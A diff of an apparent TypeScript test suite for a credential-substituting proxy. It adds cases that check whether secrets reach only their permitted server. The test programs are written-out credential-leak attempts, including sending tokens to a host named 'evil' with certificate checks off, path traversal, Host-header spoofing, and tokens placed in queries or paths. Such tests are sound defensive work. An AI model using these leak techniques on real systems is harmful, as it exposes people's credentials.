@@ -18,6 +18,14 @@ const unused: Witness = {
   check: ({ stage, hits }) => (stage.secrets.some((secret) => JSON.stringify(hits).includes(secret)) ? "a server got the real value" : null),
 };
 
+const onlyAt = (server: string): Witness => ({
+  says: `no other server than ${server} got the real value`,
+  check({ stage, hits }) {
+    const others = JSON.stringify(hits.filter((hit) => hit.server !== server));
+    return stage.secrets.some((secret) => others.includes(secret)) ? "another server got the real value" : null;
+  },
+});
+
 const echo = (id: string, title: string, path: string, extra = ""): Case =>
   attack(id, title, {
     ...hidden,
@@ -35,10 +43,14 @@ export const credentials: Case[] = [
   elsewhere("cred-other-host", "sends the placeholder to another allowed host", `ask("https://" + host("other") + "/v1/x", { headers: { authorization: ${B} } })`),
   elsewhere("cred-other-path", "sends it to another path of its own host", `ask("https://" + host("api") + "/v2/x", { headers: { authorization: ${B} } })`),
   elsewhere("cred-path-trick", "sends it to a path that only looks like its own", `ask("https://" + host("other") + "/keyed/../v1/x", { headers: { "x-api-key": process.env.KEY } })`),
-  elsewhere("cred-other-header", "sends it in another header than the one it is bound to", `ask("https://" + host("other") + "/keyed/x", { headers: { "x-other": process.env.KEY } })`),
+  elsewhere("cred-denied-request", "sends it with a request that the rules deny", `ask("https://" + host("api") + "/v1/x", { method: "DELETE", headers: { authorization: ${B} } })`),
   elsewhere("cred-plain", "sends it over plain HTTP", `ask("http://" + host("plain") + "/v1/x", { headers: { authorization: ${B} } })`),
-  elsewhere("cred-query", "puts it into the query", `ask("https://" + host("api") + "/v1/x?key=" + process.env.TOKEN)`),
-  elsewhere("cred-path", "puts it into the path", `ask("https://" + host("api") + "/v1/" + process.env.TOKEN)`),
+  attack("cred-query", "puts it into the query and the path of its own host, whose answer and whose line in the journal repeat them", {
+    ...hidden,
+    program: node(`say(await ask("https://" + host("api") + "/v1/x?key=" + process.env.TOKEN)); say(await ask("https://" + host("api") + "/v1/" + process.env.TOKEN + "/x"))`),
+    expect: all(onlyAt("api"), noCredential),
+  }),
+  elsewhere("cred-query-elsewhere", "puts it into the query and the path of another host", `ask("https://" + host("other") + "/v1/" + process.env.TOKEN + "?key=" + process.env.TOKEN)`),
   elsewhere("cred-body", "puts it into a body of an endpoint that rewrites no bodies", `ask("https://" + host("api") + "/v1/items", { method: "POST", body: JSON.stringify({ key: process.env.TOKEN }) })`),
   elsewhere("cred-unnamed", "sends it to a host that no rule names", `ask("https://" + host("evil") + "/v1/x", { headers: { authorization: ${B} }, rejectUnauthorized: false })`),
   elsewhere("cred-host-header", "sends it to its host, with the Host of another", `ask("https://" + host("api") + "/v1/x", { headers: { authorization: ${B}, host: host("evil") } })`),
